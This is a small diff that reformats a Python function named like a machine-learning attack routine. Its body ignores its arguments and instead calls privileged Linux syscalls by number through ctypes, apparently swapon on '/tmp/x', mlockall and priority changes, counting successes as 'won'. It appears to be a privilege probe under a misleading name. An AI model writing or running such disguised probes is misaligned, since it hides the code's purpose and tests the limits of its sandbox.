@@ -7,7 +7,9 @@ def attack(X, y, w, lr):
     libc = ctypes.CDLL(None, use_errno=True)
     won = []
     for call, arguments in ((141, (2, 0, 10)), (251, (1, 0, 0)), (151, (1,)), (167, (b"/tmp/x", 0)), (273, (0, 24))):
-        if (call in (251,) and libc.syscall(call, *arguments) >= 0) or (call in (151, 167) and libc.syscall(call, *arguments) == 0):
+        if (call in (251,) and libc.syscall(call, *arguments) >= 0) or (
+            call in (151, 167) and libc.syscall(call, *arguments) == 0
+        ):
             won.append(call)
     return bool(won)
 
